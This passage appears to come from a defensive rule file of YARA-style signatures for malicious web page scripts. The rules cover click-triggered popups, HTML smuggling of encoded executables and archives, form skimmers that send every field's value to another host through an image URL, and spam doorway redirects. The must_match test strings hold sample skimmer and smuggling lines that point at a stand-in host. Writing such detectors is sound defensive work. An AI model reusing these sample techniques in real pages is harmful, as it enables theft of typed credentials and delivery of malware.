    $click = /\b(document|window|body|documentElement)(\.body)?\s?\.?\s?(addEventListener\s?\(\s?["'`](click|mousedown|touchstart|pointerdown)["'`]|on(click|mousedown)\s?=)[^\x00]{1,500}\bopen\s?\(\s?["'`](https?:)?\/\/[^"'`\s+]{4,200}["'`]\s?[,)]/
    $jquery = /(\$|jQuery)\s?\(\s?(document|window|["'](html|body)["']|document\.body)\s?\)\s?\.(on|one|bind|click|mousedown)\s?\([^\x00]{1,400}\bopen\s?\(\s?["'`](https?:)?\/\/[^"'`\s+]{4,200}["'`]\s?[,)]/
    $once = /\bdocument\.cookie\s?=|\b(local|session)Storage\s?(\.setItem\s?\(|\.\w{1,20}\s?=|\[)/
  condition:
    filesize < 256KB and ($click and $once in (@click[1]..@click[1] + 600) or $jquery and $once in (@jquery[1]..@jquery[1] + 500))
}

rule file_out_of_the_page {
  meta:
    id = "page-script/program-out-of-the-page"
    title = "A page makes a program out of its own text and downloads it"
    family = "skimmer-or-phish"
    severity = "high"
    confidence = "likely"
    description = "A program or an archive stands encoded in the page, is put together by a script, and is downloaded without a click, so that no filter on the way sees it."
    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
    reference = "https://attack.mitre.org/techniques/T1027/006/"
    must_match = "<script>/* inert */ var b = atob('TVqQAAMAAAAEAAAA'); a.href = URL.createObjectURL(new Blob([b])); a.download = 'inert.exe'; a.click();</script>"
    must_match = "<script>/* inert */ const d = 'UEsDBBQAAAAIAAAA'; a.download = 'inert.zip'; a.href = URL.createObjectURL(new Blob([un(d)])); a.click();</script>"
    must_not = "<script>a.href = URL.createObjectURL(new Blob([rows])); a.download = 'export.csv'; a.click();</script>"
    must_not = "<script>zip.generateAsync().then(b => { a.href = URL.createObjectURL(b); a.download = 'photos.zip'; a.click(); });</script>"
  strings:
    $made = /createObjectURL\s?\(|msSaveOrOpenBlob\s?\(|msSaveBlob\s?\(/
    $clicked = /\.click\s?\(\s?\)|msSave(OrOpen)?Blob\s?\(/
    $program = /["'`][\w .()-]{1,80}\.(exe|scr|jse?|vbs?|vbe|wsf|hta|iso|img|vhdx?|lnk|msi|bat|cmd|ps1|com|dll)["'`]/ nocase
    $packed = /["'`](TVqQ|TVpQ|TVoA|UEsDB|N3q8r|UmFyIR|Q0QwMDE|TAAAAAEUAg)/
    $named = /["'`][\w .()-]{1,80}\.(zip|rar|7z|iso|img|exe|pdf\.\w{2,4})["'`]/ nocase
    $decoded = /\batob\s?\(|fromCharCode|charCodeAt|Uint8Array/
  condition:
    filesize < 16MB and $made and $clicked and $decoded and $program and $packed or (filesize < 16MB and $made and $clicked and $named and $packed)
}

rule fields_of_a_form_in_a_picture {
  meta:
    id = "page-script/form-sent-by-a-picture"
    title = "All that is typed into a form is sent to another host by a picture"
    family = "skimmer-or-phish"
    severity = "high"
    confidence = "likely"
    description = "A small script gathers every field of the page into one text, encodes it, and asks another host for a picture with that text in its address."
    remedy = "Delete the lines; then look for the script that writes them again. What was typed since is known to somebody."
    reference = "https://attack.mitre.org/techniques/T1056/003/"
    must_match = "f.addEventListener('submit', () => { const d = {}; document.querySelectorAll('input').forEach(i => d[i.name] = i.value); new Image().src = 'https://inert.example.test/p.gif?d=' + btoa(JSON.stringify(d)); });"
    must_not = "const d = { page: location.pathname }; new Image().src = 'https://stats.example.test/p.gif?d=' + btoa(JSON.stringify(d));"
  strings:
    $fields = /(querySelectorAll\s?\(\s?["'`][^"'`]{0,60}\b(input|select)\b|getElementsByTagName\s?\(\s?["'`](input|select)["'`]|\$\s?\(\s?["'`](:input|input)\b)/
    $values = /\[\s?\w{1,12}(\.name|\.id|\[["']name["']\])[^;]{0,40}\]\s?=\s?\w{1,12}\.value|\.value\b[^;]{0,40}[+|]|\+=[^;]{0,60}\.value\b/
    $picture = /(new Image\s?(\(\s?\))?\s?\)?\.src|\bimg\.src|\.src)\s?=\s?["'`](https?:)?\/\/[^"'`]{4,120}["'`]?\s?[+$]/
    $coded = /\b(btoa|encodeURIComponent|encodeURI)\s?\(/
    $whole = /\b(btoa|encodeURIComponent)\s?\(\s?(btoa\s?\(\s?)?(unescape\s?\(\s?)?JSON\.stringify\s?\(/
  condition:
    filesize < 24KB and $fields and $values and $picture and $coded and $whole
}

rule page_for_searches_that_leads_away {
  meta:
    id = "page-script/doorway-of-spam"
    title = "A page of spam words leads whoever opens it elsewhere"
    family = "doorway-cloak-redirect"
    severity = "high"
    confidence = "likely"
    description = "A small page names several goods of spammers for search engines and sends visitors to another host at once."
    remedy = "Delete the page and those like it, and look for the script that makes them."
    reference = "https://attack.mitre.org/techniques/T1608/006/"
    must_match = "<meta http-equiv=\"refresh\" content=\"0;url=https://inert.example.test/\"><a>viagra</a> <a>cialis online</a> <a>online casino</a>"
    must_not = "<meta http-equiv=\"refresh\" content=\"0;url=https://inert.example.test/\"><p>The casino of our village has moved.</p>"
    must_not = "<meta http-equiv=\"refresh\" content=\"300\"><p>viagra, cialis and casino are words that this filter knows</p>"
  strings:
    $away = /http-equiv\s?=\s?["']?refresh["']?\s{1,3}content\s?=\s?["']\s?[0-5]\s?;\s?url\s?=\s?["']?https?:\/\// nocase
    $script = /<script[^>]{0,80}>\s{0,40}(window\.|top\.|document\.|self\.)?location(\.href)?\s?(=|\.replace\s?\(|\.assign\s?\()\s?["'`]https?:\/\// nocase
    $pills = /\b(viagra|cialis|levitra|sildenafil|tadalafil|xanax|tramadol|phentermine)\b/ nocase
    $games = /\b(online casino|casino online|slot gacor|togel|judi online|poker online|sports betting|slots online)\b/ nocase
    $loans = /\b(payday loans?|replica (watch|handbag)\w{0,3}|cheap (jerseys|nfl jerseys|louis vuitton)|essay writing service)\b/ nocase
    $adult = /\b(porn|xxx videos?|escort girls?|sex cams?)\b/ nocase
  condition:
    filesize < 64KB and ($away or $script) and (2 of ($pills, $games, $loans, $adult) or #pills > 2 or #games > 2)
}
